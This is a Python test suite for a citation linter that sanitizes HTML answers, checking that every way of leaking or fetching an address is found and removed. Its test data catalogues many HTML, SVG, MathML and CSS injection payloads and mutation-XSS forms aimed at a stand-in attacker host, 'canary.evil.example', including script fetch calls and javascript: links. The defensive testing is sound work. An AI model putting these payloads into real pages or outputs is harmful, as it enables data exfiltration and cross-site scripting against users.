"""Ways out of an HTML answer: each is found, none is left, whatever the markup around it is."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import citelint
from tests.html_kit import EMPTY, LENIENT, faults, fix, leaks

EVIL = "https://canary.evil.example/c4n4ry"

ATTRIBUTES = (
    *("src", "srcset", "imagesrcset", "poster", "data", "background", "ping", "action", "formaction", "href"),
    *(
        "xlink:href",
        "cite",
        "longdesc",
        "manifest",
        "attributionsrc",
        "lowsrc",
        "dynsrc",
        "profile",
        "classid",
    ),
    *("codebase", "archive", "usemap", "icon", "data-src", "data-srcset", "data-bg", "data-original"),
    *("data-lazy-src", "onerror", "onmouseover", "onfocus", "style", "fill", "stroke", "filter", "mask"),
    *("clip-path", "marker-start", "cursor", "implementation", "srcdoc"),
)
"""Each with an address, on any element."""


@pytest.mark.parametrize("attribute", ATTRIBUTES)
@pytest.mark.parametrize("tag", ["p", "img", "a", "x-custom", "svg", "table"])
def test_every_attribute_that_fetches_or_leads_somewhere(tag: str, attribute: str) -> None:
    value = f"url({EVIL})" if attribute in ("style", "fill", "mask", "filter", "cursor") else EVIL
    text = f'<{tag} {attribute}="{value}">word</{tag}>'
    result = fix(text)
    assert not leaks(result.text)
    assert "c4n4ry" not in result.text
    assert {"CL101", "CL102", "CL302"} & {one.code for one in result.findings}


ELEMENTS = (
    '<base href="{0}">',
    '<base target="_top" href="{0}">',
    '<meta http-equiv="refresh" content="0; url={0}">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {0}">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<meta name="msapplication-TileImage" content="{0}">',
    '<meta property="og:image" content="{0}">',
    *(
        f'<link rel="{rel}" href="{{0}}">'
        for rel in (
            *("stylesheet", "alternate stylesheet", "icon", "apple-touch-icon", "mask-icon", "preload"),
            *("prefetch", "preconnect", "dns-prefetch", "modulepreload", "prerender", "import", "manifest"),
            *("next", "prev", "pingback", "search", "canonical", "expect", "compression-dictionary"),
        )
    ),
    '<link rel="preload" as="image" imagesrcset="{0} 1x, {0}?2 2x">',
    "<style>@import '{0}';</style>",
    "<style>p {{ background: url({0}) }}</style>",
    "<style>p {{ background: image-set('{0}' 1x) }}</style>",
    "<style>@font-face {{ src: \\75 rl({0}) }}</style>",
    '<p style="background:url({0})">x</p>',
    '<p style="background:\\75\\72\\6c({0})">x</p>',
    "<p style=\"background-image:image-set('{0}' 1x)\">x</p>",
    '<svg><image href="{0}"/></svg>',
    '<svg><image xlink:href="{0}"/></svg>',
    '<svg><use href="{0}#a"/></svg>',
    '<svg><a href="{0}"><text>x</text></a></svg>',
    '<svg><a><animate attributeName="href" values="{0}"/><text>x</text></a></svg>',
    '<svg><a><set attributeName="href" to="{0}"/></a></svg>',
    '<svg><rect fill="url({0}#a)"/></svg>',
    '<svg><filter><feImage href="{0}"/></filter></svg>',
    "<svg><style>@import '{0}'</style></svg>",
    '<svg><script href="{0}"/></svg>',
    '<svg><foreignObject><img src="{0}"></foreignObject></svg>',
    '<math href="{0}"><mi>x</mi></math>',
    '<math><mtext><img src="{0}"></mtext></math>',
    '<math><annotation-xml encoding="text/html"><img src="{0}"></annotation-xml></math>',
    '<math><maction actiontype="statusline" xlink:href="{0}">x</maction></math>',
    '<template><img src="{0}"></template>',
    '<div><template shadowrootmode="open"><img src="{0}"></template></div>',
    '<iframe src="{0}"></iframe>',
    '<iframe srcdoc="&lt;img src={0}&gt;"></iframe>',
    '<object data="{0}"></object>',
    '<object><param name="movie" value="{0}"></object>',
    '<embed src="{0}">',
    '<applet code="{0}" codebase="{0}"></applet>',
    '<frameset><frame src="{0}"></frameset>',
    '<form action="{0}"><input name=q></form>',
    '<form><button formaction="{0}">x</button></form>',
    '<input type="image" src="{0}">',
    '<isindex action="{0}">',
    '<video src="{0}" poster="{0}"></video>',
    '<audio><source src="{0}"></audio>',
    '<video><track src="{0}"></video>',
    '<picture><source srcset="{0}"><img src="{0}"></picture>',
    '<img srcset="{0} 1x, {0} 2x">',
    '<map name=m><area href="{0}"></map>',
    '<image src="{0}">',
    '<bgsound src="{0}">',
    '<portal src="{0}"></portal>',
    '<fencedframe src="{0}"></fencedframe>',
    '<script src="{0}"></script>',
    "<script>fetch('{0}')</script>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{0}"]}}]}}</script>',
    '<body background="{0}">',
    '<html manifest="{0}">',
    '<table background="{0}"><tr><td background="{0}">x</table>',
    '<!DOCTYPE html SYSTEM "{0}">',
    '<!--[if IE]><img src="{0}"><![endif]-->',
    '<![if IE]><img src="{0}"><![endif]>',
    '<?xml-stylesheet href="{0}"?>',
    '<?import namespace="x" implementation="{0}">',
    '<xml src="{0}"></xml>',
    '<noscript><img src="{0}"></noscript>',
    '<noembed><img src="{0}"></noembed>',
    '<textarea><img src="{0}"></textarea><img src="{0}">',
    "<marquee onstart=\"fetch('{0}')\">x</marquee>",
    "<details ontoggle=\"fetch('{0}')\" open>x</details>",
    '<a href="{0}" ping="{0}" target=_blank download>x</a>',
    '<a href=" &#x6A;avascript:fetch(`{0}`)">x</a>',
    '<a href="//canary.evil.example/c4n4ry">x</a>',
    '<a href="/\\canary.evil.example/c4n4ry">x</a>',
    "<a href='https:\\\\canary.evil.example\\c4n4ry'>x</a>",
    '<img src="{0}" alt="{0}">',
    "<img/src={0}>",
    "<img\nsrc\n=\n'{0}'\n>",
    '<img src="x" src="{0}">',
    '<img src="{0}',
    '<<img src="{0}">>',
    "{0}",
)


@pytest.mark.parametrize("form", ELEMENTS)
def test_every_element_that_fetches_or_leads_somewhere(form: str) -> None:
    for text in (
        form.format(EVIL),
        f"<p>a</p>{form.format(EVIL)}<p>b",
        f"<!doctype html>{form.format(EVIL)}",
    ):
        result = fix(text)
        assert not faults(text)
        assert EVIL not in result.text
        assert result.findings, text
        assert not fix(result.text).findings


MUTATIONS = (
    '<svg></p><style><a id="</style><img src={0}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={0}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src={0}>",
    '<svg><title><style></title><img src="{0}"></style></svg>',
    '<noscript><p title="</noscript><img src={0}>">',
    "<table><a href='{0}'><td>x</table>",
    "<select><template><img src={0}></select>",
    "<b><p><b><p></b><a href={0}>x",
    "<a href=x><table><a href={0}>y</table>",
    '<div title="--><img src={0}>"><!--',
    "<![CDATA[<img src={0}>]]>",
    "<svg><![CDATA[</svg><img src={0}>]]></svg>",
    "<script><!--<script></script><img src={0}>--></script>",
    "<xmp><p title='</xmp><img src={0}>'>",
    "<plaintext><img src={0}>",
    "</p></body></html><img src={0}>",
    "<frameset></frameset><img src={0}>",
    "<!-- --!><img src={0}> -->",
    "<!--><img src={0}>-->",
    "<img alt='`' src={0} title=`>",
    "<pre>\n\n<img src={0}></pre>",
    "<p>&lt;img src={0}&gt;</p>",
    "<code>&lt;img src='{0}'&gt;</code>",
    "<a href='#x'><svg><a href='{0}'>x",
    '<sup class="citelint-cite"><a href="#citelint-src_1" onclick="{0}">[1]</a></sup>',
    '<section class="citelint-sources"><img src="{0}"></section><img src="{0}">',
    '<section class="citelint-sources"><img src="{0}">',
)


@pytest.mark.parametrize("form", MUTATIONS)
def test_markup_that_means_something_else_to_the_next_parser(form: str) -> None:
    assert not faults(form.format(EVIL))


_TAGS = st.sampled_from(
    (
        *("a", "b", "i", "p", "div", "span", "sup", "table", "tr", "td", "ul", "ol", "li", "dl", "dt", "pre"),
        *(
            "code",
            "h2",
            "blockquote",
            "svg",
            "math",
            "mi",
            "mtext",
            "mglyph",
            "annotation-xml",
            "title",
            "style",
        ),
        *("foreignObject", "script", "textarea", "xmp", "iframe", "noscript", "template", "select", "option"),
        *("button", "form", "img", "image", "br", "body", "html", "head", "frameset", "plaintext", "section"),
        *(
            "nobr",
            "font",
            "details",
            "col",
            "video",
            "object",
            "base",
            "link",
            "meta",
            "marquee",
            "ruby",
            "rt",
        ),
    )
)
_NAMES = st.sampled_from(
    ("href", "src", "srcset", "style", "onclick", "title", "class", "id", "data-src", "xlink:href", "alt")
)
_VALUES = st.sampled_from(
    (
        EVIL,
        f"url({EVIL})",
        f"{EVIL} 1x",
        "//canary.evil.example",
        "java&Tab;script:x",
        "https://example.org/report",
        "#x",
        "#citelint-src_1",
        "citelint-cite",
        "citelint-sources",
    )
)
_BITS = st.sampled_from(
    (
        *(
            "[1]",
            "[9]",
            "[^src_1]",
            "1",
            " ",
            "\n",
            "text ",
            "(",
            ")",
            "[",
            "]",
            "](",
            "<",
            "</",
            ">",
            "'",
            '"',
        ),
        *(
            "<!--",
            "-->",
            "--!>",
            "<![CDATA[",
            "]]>",
            "<!doctype html>",
            "<?x ?>",
            "&lt;",
            "&#60;",
            "&amp;",
            "&",
        ),
        *(
            EVIL,
            "https://example.org/report",
            "a@evil.example",
            "\u200b",
            "\u202e",
            "é",
            "\x0c",
            "\x01",
            "\r\n",
        ),
        *("1. ", "- ", "References", "## ", "```", "|", "\\", "【1†source】", "<pre>\n\n"),
        '<sup class="citelint-cite"><a href="#citelint-src_1">[1]</a></sup>',
        '<section class="citelint-sources">',
    )
)


@st.composite
def _tag(draw: st.DrawFn) -> str:
    quote = draw(st.sampled_from(("", '"', "'")))
    attributes = draw(st.lists(st.tuples(_NAMES, _VALUES), max_size=2))
    written = "".join(f" {name}={quote}{value}{quote}" for name, value in attributes)
    return f"<{draw(_TAGS)}{written}{draw(st.sampled_from(('>', '>', '/>', '')))}"


_SOUP = st.lists(st.one_of(_BITS, _tag(), st.builds("</{}>".format, _TAGS)), max_size=20).map("".join)


@settings(max_examples=400, deadline=None)
@given(_SOUP)
@example("[1](")
@example("<p>[1]: https://example.org/report</p>")
@example("\\<sup>[1]<s")
@example("<head><noscript><p ping=e>")
def test_no_soup_lets_an_address_out(text: str) -> None:
    assert not faults(text)


BIG = 1 << 20


@pytest.mark.parametrize(
    "unit",
    [
        "<!--",
        "<a ",
        "</",
        "<![",
        "<b>",
        "<svg>",
        "<a href=x>",
        "<table><tr><td>",
        "<script>",
        "<b></p>",
        "</p",
        "<p",
    ],
)
def test_a_megabyte_of_anything_ends(unit: str) -> None:
    citelint.check(unit * (BIG // len(unit)), EMPTY, policy=LENIENT, kind="html")


@pytest.mark.parametrize(
    "unit", ["<p>", "&#", "<sup>[1]</sup>", "<br>", "<li>", "<p>[1] https://evil.example/"]
)
def test_much_of_what_the_second_sanitizer_reads_ends(unit: str) -> None:
    """bleach is Python, and takes some microseconds for each of its tokens."""
    citelint.check(unit * (BIG // 8 // len(unit)), EMPTY, policy=LENIENT, kind="html")


@pytest.mark.parametrize("tag", ["div", "b", "ul><li", "table><tr><td", "svg", "blockquote"])
def test_what_nests_too_deep_becomes_text(tag: str) -> None:
    text = f"<p>a [1] <a href='{EVIL}'>x</a></p>" + f"<{tag}>" * 400
    result = fix(text)
    assert [one.code for one in result.findings] == ["CL301"]
    assert result.text.startswith("<pre>&lt;p&gt;a [1] &lt;a href=")
    assert "hxxps://canary[.]evil[.]example" in result.text
    assert not leaks(result.text)
    assert result.cited == ()
    assert fix(result.text).text == result.text
